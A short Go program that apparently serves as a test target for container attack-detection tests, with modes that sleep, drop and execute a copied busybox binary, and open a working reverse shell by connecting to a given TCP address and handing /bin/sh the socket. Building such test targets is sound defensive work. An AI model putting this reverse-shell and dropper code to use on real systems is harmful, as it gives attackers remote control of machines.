// Command service is what runs in the container that the tests attack: a
// service that waits, and the same when an attacker commands it.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"syscall"
	"time"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(args []string) error {
	switch args[0] {
	case "serve":
		time.Sleep(time.Hour)
		return nil
	case "drop":
		return drop("/dropped")
	case "shell":
		return giveShell(args[1])
	}
	return fmt.Errorf("unknown order %q", args[0])
}

// drop writes a program that is not in the image and runs it.
func drop(path string) error {
	in, err := os.Open("/bin/busybox")
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		return err
	}
	if _, err := io.Copy(out, in); err != nil {
		return err
	}
	if err := out.Close(); err != nil {
		return err
	}
	return (&exec.Cmd{Path: path, Args: []string{"true"}}).Run()
}

// giveShell connects to addr and runs a shell that takes its orders from there.
func giveShell(addr string) error {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := range 3 {
		if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	sh := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh"}, Stdin: os.Stdin, Stdout: os.Stdout, Stderr: os.Stderr}
	return sh.Run()
}
